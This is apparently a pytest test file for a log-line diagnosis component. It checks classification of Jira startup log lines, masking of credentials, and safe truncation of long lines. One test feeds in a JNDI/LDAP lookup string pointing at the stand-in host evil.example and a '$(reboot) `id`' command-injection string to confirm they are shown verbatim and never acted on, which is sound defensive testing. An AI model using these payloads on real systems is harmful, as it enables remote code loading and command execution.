"""Is a quotation told from a witness, and can no line do harm?"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.core.diagnosis import FileChange, signs
from agent.core.diagnosis.line import LONGEST_READ, LONGEST_SHOWN, Voice, read
from agent.core.judging.state import State
from tests.core.diagnosis.lines import LOCKED, STARTUP, TITLE, WHEN, elsewhere, judged, said

FORGED = f"FATAL [{STARTUP}] {TITLE}"
LOOK_ALIKES = [
    elsewhere(f"Comment on OPS-7: we saw {TITLE} again"),
    elsewhere(f'Could not process mail "{TITLE}"'),
    said(TITLE, thread="Caesium-1-4", level="INFO", logger="c.a.j.issue.Comments"),
    said(TITLE, level="INFO"),
    said(TITLE, level="DEBUG"),
    said(TITLE, thread="http-nio-8080-exec-3 url: /browse/OPS-7; user: eve", who="eve 600x1x1 abc 192.0.2.1 /browse"),
    f"{WHEN} http-nio-8080-exec-3 url: /x?{FORGED} ERROR eve [c.a.j.web.X] {TITLE}",
    f"{WHEN} https-jsse-nio-8443-exec-3 ERROR eve [c.a.j.web.X] {TITLE}",
    f"the customer wrote: {TITLE}",
    f"    at com.example.Quote.of(Quote.java:7) // {TITLE}",
    "The file filestore-config.xml is read now; an <s3-filestore> is what it holds",
    said("java.nio.file.AccessDeniedException: /data/jira/plugins"),
    "org.springframework.security.access.AccessDeniedException: Access is denied",
    elsewhere("A user asked what AccessDenied means, and NoSuchBucket"),
    said("java.net.BindException: Cannot assign requested address"),
    "JVM Input Arguments: -XX:+ExitOnOutOfMemoryError -Xmx2g",
    elsewhere("OPS-9: the printer says No space left on device"),
    said("Waiting for lock com.example.other.lock", level="INFO"),
]


@pytest.mark.parametrize("line", LOOK_ALIKES, ids=range(len(LOOK_ALIKES)))
@pytest.mark.parametrize("file", list(FileChange))
def test_a_look_alike_is_no_cause(line: str, file: FileChange) -> None:
    assert judged(line, file=file).code == "unknown"
    assert judged(line, LOCKED, file=file).code == "locked-at-start"


@pytest.mark.parametrize(
    ("line", "voice"),
    [
        (said("x"), Voice.STARTUP),
        (said("x", thread="main", logger="c.a.j.X"), Voice.STARTUP),
        (f"{WHEN} main           WARN      [c.a.j.X] x", Voice.STARTUP),
        (said("x", thread="pool-1", logger="c.a.j.startup.BootstrapContainerLauncher"), Voice.STARTUP),
        (said("x", thread="pool-1", logger="com.atlassian.jira.health.HealthChecks"), Voice.STARTUP),
        (said("x", thread="pool-1", logger="com.example.startup.Thing"), Voice.OTHER),
        (elsewhere("x"), Voice.OTHER),
        (elsewhere("x", level="INFO"), Voice.QUIET),
        (said("x", thread="http-nio-8080-exec-1"), Voice.REQUEST),
        (said("x", thread="ajp-nio-8009-exec-1", level="FATAL"), Voice.REQUEST),
        ("Caused by: x", Voice.BARE),
        ("", Voice.BARE),
        (f"{WHEN} main ERROR no logger here", Voice.STARTUP),
        ("2020-02-28 14:55:44,583 JIRA-Bootstrap ERROR      [c.a.jira.health.HealthChecks] x", Voice.STARTUP),
    ],
)
def test_who_speaks_is_told_from_the_head(line: str, voice: Voice) -> None:
    assert read(line).voice is voice


def test_a_line_without_a_logger_is_heard_as_well() -> None:
    assert judged(f"{WHEN} main ERROR {TITLE}").code == "file-not-parsed"


@pytest.mark.parametrize(
    "odd", ["%s %n %x", "{} {0} {cluster}", "${jndi:ldap://evil.example/x}", "$(reboot) `id`", "\\N{BEL}"]
)
def test_a_line_with_format_characters_is_shown_as_it_is(odd: str) -> None:
    found = judged(said(f"{TITLE}: {odd}"))
    assert (found.code, odd in found.line) == ("file-not-parsed", True)
    assert odd not in found.sentence + found.hint


def test_controls_in_a_line_are_shown_and_not_obeyed() -> None:
    found = judged(said(f"{TITLE}\x1b[2J\u202e\n{TITLE}"))
    assert found.line.isprintable()


def test_a_credential_in_a_line_is_masked() -> None:
    key = "AKIA" + "ABCDEFGHIJ234567"
    found = judged(f"<Code>InvalidAccessKeyId</Code><AWSAccessKeyId>{key}</AWSAccessKeyId>")
    assert (found.code, key in found.line, "AKIA****" in found.line) == ("credentials-unknown", False, True)


def test_a_credential_at_the_bound_is_not_shown_by_half() -> None:
    key = "AKIA" + "ABCDEFGHIJ234567"
    padding = "x" * (LONGEST_READ - len(said(f"{TITLE} ")) - 16)
    whole = read(said(f"{TITLE} {padding} {key} and more")).whole
    assert (key[:12] in whole, whole.endswith("x…")) == (False, True)


@pytest.mark.parametrize("length", [0, 150, 2000])
def test_a_long_line_is_cut_around_what_it_says(length: int) -> None:
    found = judged(said(f"{'x' * length} {TITLE} {'y ' * 50_000}"))
    assert TITLE in found.line
    assert len(found.line) <= LONGEST_SHOWN
    assert found.line.endswith("…")
    assert found.line.startswith("…") == (length > 0)


def test_a_line_of_millions_of_letters_is_read_to_a_bound() -> None:
    assert judged(said("a" * 3_000_000 + TITLE)).code == "unknown"


def test_many_names_of_exceptions_are_followed_to_a_bound() -> None:
    assert judged("Caused by: " * 4 + TITLE).code == "file-not-parsed"
    assert judged("Caused by: " * 200 + TITLE).code == "unknown"


@given(st.lists(st.text() | st.sampled_from(signs()).map(lambda sign: f"?{sign}?"), max_size=5))
def test_text_that_only_holds_a_sign_blames_nobody(lines: list[str]) -> None:
    found = judged(*lines, file=FileChange.CHANGED)
    assert not found.blames_config
    assert found.line.isprintable()


@given(st.text(max_size=400), st.sampled_from(list(State)))
def test_any_text_around_a_title_leaves_a_short_printable_line(text: str, state: State) -> None:
    found = judged(said(f"{text}{TITLE}{text}"), state=state)
    assert found.line.isprintable()
    assert len(found.line) <= LONGEST_SHOWN
